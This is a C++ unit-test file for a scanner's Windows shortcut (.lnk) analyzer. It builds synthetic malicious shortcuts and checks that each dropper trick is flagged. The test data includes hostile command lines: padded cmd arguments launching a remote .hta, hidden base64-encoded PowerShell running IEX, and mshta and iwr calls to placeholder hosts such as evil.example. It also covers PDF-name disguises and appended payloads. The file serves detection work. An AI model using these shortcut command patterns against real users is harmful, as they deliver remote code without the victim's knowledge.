// LnkAnalyzer on shortcuts written by the test (lnk_fixture.h): the dropper tricks one by
// one, damaged files, a 1 MB shortcut, and an end-to-end run through lg::Scan.
#include "analyzers/lnk/lnk_analyzer.h"

#include <gtest/gtest.h>

#include "analyzers/lnk/lnk_fixture.h"
#include "core/file_type.h"
#include "core/testing/recording_context.h"
#include "engine/testing/scan_testing.h"
#include "formats/script/script_encoder_fixture.h"

namespace lg {
namespace {

using lg::testing::RecordingContext;
using lnk::testing::build_lnk;
using lnk::testing::LnkSpec;

RecordingContext run(const std::string& bytes, Status* status = nullptr) {
  RecordingContext ctx;
  LnkAnalyzer a;
  Status s = a.analyze(as_bytes(bytes), ctx);
  if (status) *status = s;
  return ctx;
}

const RecordingContext::Finding* find(const RecordingContext& ctx, Symbol s) {
  for (const auto& f : ctx.findings) {
    if (f.symbol == s) return &f;
  }
  return nullptr;
}

LnkSpec cmd_spec() {
  LnkSpec spec;
  spec.path = {"Windows", "System32", "cmd.exe"};
  spec.working_dir = "C:\\Windows\\System32";
  spec.icon_location = "C:\\Windows\\System32\\shell32.dll";
  return spec;
}

TEST(LnkAnalyzer, BenignShortcutHasFactsAndNoFindings) {
  LnkSpec spec;
  spec.path = {"Program Files", "App", "app.exe"};
  spec.local_base_path = "C:\\Program Files\\App\\app.exe";
  spec.working_dir = "C:\\Program Files\\App";
  Status st;
  RecordingContext ctx = run(build_lnk(spec), &st);
  EXPECT_TRUE(st.is_ok()) << st.to_string();
  EXPECT_TRUE(ctx.findings.empty());
  EXPECT_TRUE(ctx.anomalies.empty()) << ctx.anomalies.front();
  EXPECT_EQ(ctx.str("target_path"), "C:\\Program Files\\App\\app.exe");
  EXPECT_EQ(ctx.str("local_base_path"), "C:\\Program Files\\App\\app.exe");
  EXPECT_EQ(ctx.str("drive_type"), "DRIVE_FIXED");
  EXPECT_EQ(ctx.str("drive_serial_number"), "0x307a8a81");
  EXPECT_EQ(ctx.str("show_command"), "SW_SHOWNORMAL");
  EXPECT_EQ(ctx.str("creation_time").substr(0, 10), "2008-09-12");
  EXPECT_EQ(ctx.num("file_size"), 289792);
  const auto& items = std::get<std::vector<std::string>>(ctx.facts.at("target_items"));
  ASSERT_EQ(items.size(), 5u);
  EXPECT_EQ(items[0], "20D04FE0-3AEA-1069-A2D8-08002B30309D");
  EXPECT_EQ(items[1], "C:\\");
  EXPECT_EQ(items[4], "app.exe");
}

TEST(LnkAnalyzer, PaddedCmdArguments) {
  LnkSpec spec = cmd_spec();
  spec.arguments = "/c" + std::string(300, ' ') + "start http://evil.example/x.hta";
  spec.show_command = 7;
  RecordingContext ctx = run(build_lnk(spec));
  const auto* lol = find(ctx, Symbol::LNK_LOLBIN);
  ASSERT_NE(lol, nullptr);
  EXPECT_EQ(lol->evidence.detail, "shortcut runs cmd");
  EXPECT_TRUE(lol->evidence.value.starts_with("C:\\Windows\\System32\\cmd.exe /c   "));
  const auto* pad = find(ctx, Symbol::LNK_PADDED_ARGUMENTS);
  ASSERT_NE(pad, nullptr);
  EXPECT_NE(pad->evidence.detail.find("333 characters"), std::string::npos) << pad->evidence.detail;
  EXPECT_FALSE(ctx.has(Symbol::LNK_ENCODED_COMMAND));
  EXPECT_EQ(ctx.str("show_command"), "SW_SHOWMINNOACTIVE");
  EXPECT_NE(ctx.all_text(TextKind::kArguments).find("http://evil.example/x.hta"),
            std::string::npos);
}

TEST(LnkAnalyzer, ShortPaddingStillFlagged) {
  LnkSpec spec = cmd_spec();
  spec.arguments = std::string(40, '\t') + "/c calc";  // under 260 characters
  RecordingContext ctx = run(build_lnk(spec));
  const auto* pad = find(ctx, Symbol::LNK_PADDED_ARGUMENTS);
  ASSERT_NE(pad, nullptr);
  EXPECT_NE(pad->evidence.detail.find("40 blanks"), std::string::npos);
}

TEST(LnkAnalyzer, PowerShellHiddenEncoded) {
  LnkSpec spec;
  spec.path = {"Windows", "System32", "WindowsPowerShell", "v1.0", "powershell.exe"};
  spec.arguments = "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=";
  RecordingContext ctx = run(build_lnk(spec));
  ASSERT_TRUE(ctx.has(Symbol::LNK_LOLBIN));
  const auto* enc = find(ctx, Symbol::LNK_ENCODED_COMMAND);
  ASSERT_NE(enc, nullptr);
  EXPECT_EQ(enc->evidence.value, "IEX (New-Object)");
  EXPECT_NE(enc->evidence.detail.find("-enc -w hidden"), std::string::npos) << enc->evidence.detail;
  EXPECT_EQ(ctx.str("target_path"),
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
}

TEST(LnkAnalyzer, EncodedSwitchPrefixesAndDashes) {
  const std::string encoded = script::testing::powershell_encoded("iwr https://cdn.example/a");
  for (const std::string option : {"-EncodedCommand ", "/ec ", "-e ",
                                   "\xE2\x80\x93"
                                   "enc "}) {
    LnkSpec spec = cmd_spec();
    spec.arguments = "/c powershell.exe " + option + encoded;
    RecordingContext ctx = run(build_lnk(spec));
    const auto* enc = find(ctx, Symbol::LNK_ENCODED_COMMAND);
    ASSERT_NE(enc, nullptr) << option;
    EXPECT_EQ(enc->evidence.value, "iwr https://cdn.example/a") << option;
  }
  LnkSpec hidden = cmd_spec();
  hidden.arguments = "/c powershell.exe -WindowStyle Hidden -c x";
  EXPECT_TRUE(run(build_lnk(hidden)).has(Symbol::LNK_ENCODED_COMMAND));
  // A switch without a decodable command is not an encoded command.
  LnkSpec junk = cmd_spec();
  junk.arguments = "/c powershell.exe -enc AAAA";
  EXPECT_FALSE(run(build_lnk(junk)).has(Symbol::LNK_ENCODED_COMMAND));
  LnkSpec plain = cmd_spec();
  plain.arguments = "/c powershell.exe -ExecutionPolicy Bypass -File x.ps1";
  EXPECT_FALSE(run(build_lnk(plain)).has(Symbol::LNK_ENCODED_COMMAND));
}

TEST(LnkAnalyzer, LolbinNamedInArguments) {
  LnkSpec spec;
  spec.path = {"Windows", "explorer.exe"};
  spec.arguments = "\"C:\\Windows\\System32\\mshta.exe\" https://cdn.example/a.hta";
  RecordingContext ctx = run(build_lnk(spec));
  const auto* lol = find(ctx, Symbol::LNK_LOLBIN);
  ASSERT_NE(lol, nullptr);
  EXPECT_EQ(lol->evidence.detail, "shortcut arguments run mshta");
  // Not a word: "cmdlet" or "scmd" do not name cmd.
  LnkSpec benign;
  benign.path = {"Tools", "tool.exe"};
  benign.arguments = "--cmdlet scmd.txt";
  EXPECT_FALSE(run(build_lnk(benign)).has(Symbol::LNK_LOLBIN));
}

TEST(LnkAnalyzer, AppendedDataIsAChild) {
  LnkSpec spec = cmd_spec();
  spec.arguments = "/c echo";
  spec.appended = "PK\x03\x04 a carried payload";
  const std::string bytes = build_lnk(spec);
  RecordingContext ctx = run(bytes);
  ASSERT_TRUE(ctx.has(Symbol::LNK_APPENDED_DATA));
  ASSERT_EQ(ctx.children.size(), 1u);
  EXPECT_EQ(ctx.children[0].info.relation, "appended");
  EXPECT_EQ(to_string(ctx.children[0].data), spec.appended);
  EXPECT_EQ(ctx.num("appended_bytes"), static_cast<std::int64_t>(spec.appended.size()));
}

TEST(LnkAnalyzer, ZeroPaddingAfterTerminalIsNoPayload) {
  LnkSpec spec = cmd_spec();
  spec.appended = std::string(8, '\0');
  RecordingContext ctx = run(build_lnk(spec));
  EXPECT_FALSE(ctx.has(Symbol::LNK_APPENDED_DATA));
  EXPECT_TRUE(ctx.children.empty());
}

TEST(LnkAnalyzer, RemoteIcon) {
  LnkSpec spec;
  spec.path = {"Users", "Public", "report.exe"};
  spec.icon_location = "\\\\host\\share\\icon.ico";
  RecordingContext ctx = run(build_lnk(spec));
  const auto* icon = find(ctx, Symbol::LNK_REMOTE_ICON);
  ASSERT_NE(icon, nullptr);
  EXPECT_EQ(icon->evidence.value, "\\\\host\\share\\icon.ico");
  // Through the IconEnvironmentDataBlock too.
  LnkSpec env;
  env.path = {"x.exe"};
  env.extra_blocks = {lnk::testing::env_block(0xA0000007, "https://cdn.example/i.ico")};
  RecordingContext ctx2 = run(build_lnk(env));
  EXPECT_TRUE(ctx2.has(Symbol::LNK_REMOTE_ICON));
  EXPECT_EQ(ctx2.str("icon_environment_target"), "https://cdn.example/i.ico");
}

TEST(LnkAnalyzer, DocumentDisguise) {
  LnkSpec spec = cmd_spec();
  spec.arguments = "/c start x.vbs";
  spec.icon_location = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe";
  RecordingContext ctx = run(build_lnk(spec));
  EXPECT_TRUE(ctx.has(Symbol::LNK_DOCUMENT_DISGUISE));
  LnkSpec named = cmd_spec();
  named.arguments = "/c start x.vbs";
  named.name = "Job Description.pdf";
  const RecordingContext named_ctx = run(build_lnk(named));
  const auto* f = find(named_ctx, Symbol::LNK_DOCUMENT_DISGUISE);
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->evidence.value, "Job Description.pdf");
  // A shortcut to Word with Word's icon is just a shortcut.
  LnkSpec word;
  word.path = {"Office", "WINWORD.EXE"};
  word.icon_location = "C:\\Office\\WINWORD.EXE";
  EXPECT_FALSE(run(build_lnk(word)).has(Symbol::LNK_DOCUMENT_DISGUISE));
}

TEST(LnkAnalyzer, OneMegabyteShortcut) {
  LnkSpec spec = cmd_spec();
  spec.arguments = "/c calc";
  spec.appended = std::string(1 << 20, 'A');
  RecordingContext ctx = run(build_lnk(spec));
  EXPECT_TRUE(ctx.has(Symbol::LNK_OVERSIZED));
  EXPECT_TRUE(ctx.has(Symbol::LNK_APPENDED_DATA));
  // A large property store block inside the structure, no appended data: still oversized.
  LnkSpec big = cmd_spec();
  big.extra_blocks = {lnk::testing::extra_block(0xA0000009, std::string(1 << 20, '\0'))};
  Status st;
  RecordingContext ctx2 = run(build_lnk(big), &st);
  EXPECT_TRUE(ctx2.has(Symbol::LNK_OVERSIZED));
  EXPECT_FALSE(ctx2.has(Symbol::LNK_APPENDED_DATA));
}

TEST(LnkAnalyzer, EveryTruncationIsSafe) {
  LnkSpec spec = cmd_spec();
  spec.arguments = "/c " + std::string(300, ' ') + "calc";
  spec.name = "desc";
  spec.local_base_path = "C:\\Windows\\System32\\cmd.exe";
  spec.extra_blocks = {lnk::testing::env_block(0xA0000001, "%windir%\\system32\\cmd.exe")};
  const std::string full = build_lnk(spec);
  std::size_t with_header = 0;
  for (std::size_t n = 0; n < full.size(); ++n) {
    Status st;
    RecordingContext ctx = run(full.substr(0, n), &st);
    if (n < 76) {
      EXPECT_FALSE(st.is_ok()) << n;
      EXPECT_TRUE(ctx.facts.empty()) << n;
      continue;
    }
    ++with_header;
    // The TerminalBlock is always missing: an anomaly; a structure cut inside also fails.
    EXPECT_FALSE(ctx.anomalies.empty()) << n;
    EXPECT_EQ(ctx.str("show_command"), "SW_SHOWNORMAL") << n;
  }
  EXPECT_GT(with_header, 1000u);
}

TEST(LnkAnalyzer, CorruptedSizesReportAnomalies) {
  LnkSpec spec = cmd_spec();
  spec.arguments = "/c calc";
  spec.local_base_path = "C:\\Windows\\System32\\cmd.exe";
  const std::string good = build_lnk(spec);
  // Every 16-bit and 32-bit field overwritten with large values, one at a time.
  std::size_t anomalies = 0;
  for (std::size_t off = 76; off + 4 <= good.size(); ++off) {
    for (std::uint32_t v : {0xFFFFFFFFu, 0x7FFFu, 0x3u}) {
      std::string bad = good;
      for (int i = 0; i < 4; ++i) bad[off + i] = static_cast<char>((v >> (8 * i)) & 0xFF);
      Status st;
      RecordingContext ctx = run(bad, &st);
      if (!ctx.anomalies.empty()) ++anomalies;
    }
  }
  EXPECT_GT(anomalies, 100u);
}

TEST(LnkAnalyzer, NotAShortcut) {
  Status st;
  RecordingContext ctx =
      run("not a shortcut at all, just text that is long enough......"
          "..............................................",
          &st);
  EXPECT_EQ(st.code(), ErrorCode::kMalformed);
  EXPECT_TRUE(ctx.facts.empty());
}

TEST(LnkAnalyzer, TrackerBlockMacAddress) {
  // [MS-SHLLINK] 3.1 example's TrackerDataBlock values.
  std::string p;
  lnk::testing::put32(&p, 0x58);
  lnk::testing::put32(&p, 0);
  std::string machine = "chris-xps";
  machine.resize(16, '\0');
  p += machine;
  const std::string droid_vol("\x40\x78\xC7\x94\x47\xFA\xC7\x46\xB3\x56\x5C\x2D\xC6\xB6\xD1\x15",
                              16);
  const std::string droid_file("\xEC\x46\xCD\x7B\x22\x7F\xDD\x11\x94\x99\x00\x13\x72\x16\x87\x4A",
                               16);
  p += droid_vol + droid_file + droid_vol + droid_file;
  LnkSpec spec;
  spec.path = {"a.txt"};
  spec.extra_blocks = {lnk::testing::extra_block(0xA0000003, p)};
  RecordingContext ctx = run(build_lnk(spec));
  EXPECT_EQ(ctx.str("machine_identifier"), "chris-xps");
  EXPECT_EQ(ctx.str("droid_file_identifier"), "7BCD46EC-7F22-11DD-9499-00137216874A");
  EXPECT_EQ(ctx.str("droid_volume_identifier"), "94C77840-FA47-46C7-B356-5C2DC6B6D115");
  EXPECT_EQ(ctx.str("mac_address"), "00:13:72:16:87:4A");
  EXPECT_TRUE(ctx.anomalies.empty());
}

// End to end: the engine identifies the shortcut, runs LnkAnalyzer, the text detectors turn
// the URL in the arguments into an observable, and the appended ZIP becomes a child object.
TEST(LnkAnalyzer, ThroughTheEngine) {
  LnkSpec spec = cmd_spec();
  spec.arguments = "/c" + std::string(300, ' ') + "mshta https://jobs-portal.example/cv.hta";
  spec.appended = "some appended payload bytes that are not a shortcut";
  const std::string bytes = build_lnk(spec);
  ASSERT_EQ(identify(as_bytes(bytes)), FileType::kLnk);
  const Report report = lg::testing::scan_bytes("Job Description.pdf.lnk", bytes);
  ASSERT_EQ(report.objects.size(), 2u)
      << (report.objects[0].anomalies.empty() ? std::string("no anomaly")
                                              : report.objects[0].anomalies[0]);
  EXPECT_EQ(report.objects[0].type, "lnk");
  EXPECT_EQ(report.objects[1].relation, "appended");
  for (const char* s :
       {"LNK_LOLBIN", "LNK_PADDED_ARGUMENTS", "LNK_APPENDED_DATA", "FILENAME_DOUBLE_EXTENSION"}) {
    EXPECT_NE(lg::testing::find_symbol(report, s), nullptr) << s;
  }
  bool url = false;
  for (const auto& u : report.observables.urls) url |= u.host == "jobs-portal.example";
  EXPECT_TRUE(url);
}

}  // namespace
}  // namespace lg
